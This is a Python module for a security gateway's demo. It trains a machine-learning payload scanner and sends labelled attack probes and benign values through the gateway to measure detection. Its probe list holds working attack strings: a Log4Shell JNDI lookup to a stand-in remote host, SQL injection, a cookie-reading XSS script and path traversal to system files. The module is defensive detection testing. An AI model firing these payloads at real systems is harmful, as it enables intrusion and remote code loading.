"""The payload-scanning act of ``gatewise demo``: the platform's second kind of model.

1. AutoML (the same Prefect flow ``train``) on the real labelled payloads: text families
   over hashed n-grams, threshold at a 0.1 % benign false-positive budget, gated and
   registered; per-class findings logged to the MLflow run.
2. Promoted when the gate allows it; the champion's compact form is exported for the
   gateway (``<data_dir>/scanner/payload.npz``), which reloads it without a restart.
3. The gateway act then sends held-out real attacks (in the query, headers, cookies and the
   path) and benign look-alikes through the live gateway: scanned in process, recorded in
   shadow.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from rich.console import Console

from config.settings import Settings

__all__ = ["Probe", "demo_requests", "payload_demo", "scan_summary"]


def payload_demo(console: Console, s: Settings, config: Path | None, budget: float = 90.0) -> Any:
    from demo.steps import table, train
    from models import registry as reg

    r = train(
        console, s, config, "payload", min(budget, s.target("payload").time_budget_s), None, 1, 0
    )
    c = reg.client(s)
    run = c.get_run(r.run_id)
    m = run.data.metrics
    rows = [
        {
            "class": k.removeprefix("holdout_recall_"),
            "recall (held-out templates)": round(v, 4),
        }
        for k, v in sorted(m.items())
        if k.startswith("holdout_recall_")
    ]
    if rows:
        console.print(table("payload v" + str(r.version) + ": detection by attack class", rows))
    if "holdout_benign_fpr" in m:
        console.print(
            f"benign values flagged on the holdout: {m['holdout_benign_fpr']:.3%} "
            f"(95 % upper bound {m.get('holdout_benign_fpr_upper95', float('nan')):.3%}; "
            f"budget {s.target('payload').max_false_positive_rate:.1%}), precision "
            f"{m.get('holdout_precision', float('nan')):.4f}; findings (misses, false positives) "
            "are artifacts of the run (findings/)"
        )
    if r.eligible:
        out = reg.promote(s, "payload", str(r.version))
        exported = out.get("scanner") or {}
        where = exported.get("path") or f"serving only ({exported.get('remote')})"
        console.print(
            f"payload v{out['champion']} is champion; compact scanner for the gateway: {where}"
        )
    else:
        console.print(f"the gate kept payload v{r.version} out: {'; '.join(r.reasons)}")
    return r


@dataclass(frozen=True)
class Probe:
    """One injected request: ``value`` placed ``where`` (query, header, cookie, path)."""

    where: str
    value: str
    truth: str  # the attack class, or benign
    header: str = ""


def demo_requests(n_attacks: int = 24, seed: int = 0) -> list[Probe]:
    """What the injector sends: real attacks from the held-out templates and lists (never
    trained on) in the search box, attacks in headers, cookies and the path, and benign
    values with quotes, brackets, timestamps, JSON and locale strings."""
    import numpy as np

    from features.payload import split_context
    from models.data import BENIGN, payload_dataset
    from models.search import make_splits

    ds = payload_dataset()
    sp = make_splits(ds, 0.2)
    rng = np.random.default_rng(seed)
    hold = sp.holdout
    assert ds.detail is not None
    cls = ds.detail.to_numpy()[hold]
    ctx_val = [split_context(str(v)) for v in ds.X["payload"].to_numpy()[hold]]
    out: list[Probe] = []
    for c in ("sqli", "xss", "path-traversal", "cmdi"):
        idx = [i for i in np.flatnonzero(cls == c) if ctx_val[i][0] == "param"]
        k = min(len(idx), n_attacks // 4)
        out += [Probe("query", ctx_val[i][1], c) for i in rng.choice(idx, k, replace=False)]
    headers = [
        i
        for i, (ctx, _) in enumerate(ctx_val)
        if ctx in ("header", "user-agent") and cls[i] != BENIGN
    ]
    for i in rng.choice(headers, min(4, len(headers)), replace=False):
        ctx, v = ctx_val[i]
        name = "User-Agent" if ctx == "user-agent" else "X-Forwarded-Host"
        out.append(Probe("header", v.replace("\r", "%0d").replace("\n", "%0a"), str(cls[i]), name))
    out += [
        Probe("header", "${jndi:ldap://198.51.100.7:1389/a}", "jndi", "User-Agent"),
        Probe("cookie", "1' or '1'='1", "sqli"),
        Probe("cookie", "<script>alert(document.cookie)</script>", "xss"),
        Probe("path", "..\\..\\..\\windows\\win.ini", "path-traversal"),
        Probe("path", "....//....//etc/passwd".replace("/", "%5C"), "path-traversal"),
    ]
    for v in (
        "Conan O'Brien",
        "is 7 < 12 ?",
        "Rock 'n' Roll",
        "2026-11-02T10:00:00Z",
        '{"page":2}',
    ):
        out.append(Probe("query", v, BENIGN))
    out += [
        Probe("header", "de-CH,de;q=0.9,en;q=0.8", BENIGN, "Accept-Language"),
        Probe("cookie", "theme=dark; lang=en-GB", BENIGN),
    ]
    return out


def scan_summary(events: Any, probes: list[Probe]) -> list[dict[str, Any]]:
    """Scanner verdicts of the injected requests (matched by their ``probe`` number), by
    where the value was and its true class."""
    from urllib.parse import parse_qs

    df = events[events["url_query"].fillna("").str.contains("probe=")].copy()
    df["probe"] = [int(parse_qs(q).get("probe", ["-1"])[0]) for q in df["url_query"]]
    df = df[(df["probe"] >= 0) & (df["probe"] < len(probes))]
    if not len(df):
        return []
    df["where"] = [probes[i].where for i in df["probe"]]
    df["true_class"] = [probes[i].truth for i in df["probe"]]
    df["label"] = df["scan_label"].fillna("not scanned")
    df["caught"] = ~df["label"].isin(["benign", "not scanned", "unscanned"])
    df["action"] = df["scan_action"].fillna("none")
    g = df.groupby(["where", "true_class"]).agg(
        requests=("request_id", "size"),
        flagged=("caught", "sum"),
        labels=("label", lambda x: ", ".join(sorted(set(x)))),
        actions=("action", lambda x: ", ".join(sorted(set(x)))),
        max_score=("scan_score", "max"),
    )
    return [{str(k): v for k, v in r.items()} for r in g.reset_index().to_dict("records")]
